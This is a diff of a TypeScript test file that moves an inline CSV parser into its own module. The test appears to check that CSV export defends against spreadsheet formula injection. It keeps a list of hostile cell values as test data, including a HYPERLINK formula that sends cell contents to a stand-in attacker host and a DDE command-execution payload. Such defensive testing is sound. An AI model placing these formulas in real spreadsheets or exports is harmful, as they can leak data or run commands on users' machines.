@@ -1,39 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { setupApp } from './helper';
-
-/** RFC 4180 records (quoted fields may hold commas, quotes, CR and LF), as a spreadsheet reads the file. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let field = '';
-  let quoted = false;
-  const endField = () => {
-    record.push(field);
-    field = '';
-  };
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted && c === '"' && text[i + 1] === '"') {
-      field += '"';
-      i++;
-    } else if (c === '"') {
-      quoted = !quoted;
-    } else if (!quoted && c === ',') {
-      endField();
-    } else if (!quoted && c === '\n') {
-      endField();
-      records.push(record);
-      record = [];
-    } else {
-      field += c;
-    }
-  }
-  if (field !== '' || record.length > 0) {
-    endField();
-    records.push(record);
-  }
-  return records;
-}
+import { parseCsv } from './parse-csv';
 
 const HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-2', '@SUM(1+1)', '\tx', '\rx', "=cmd|' /C calc'!A0"];
 const PLAIN_NAMES = ['Lisbon', "'already quoted", 'a=b', 'Hanoi, "old quarter"', ' =leading space'];
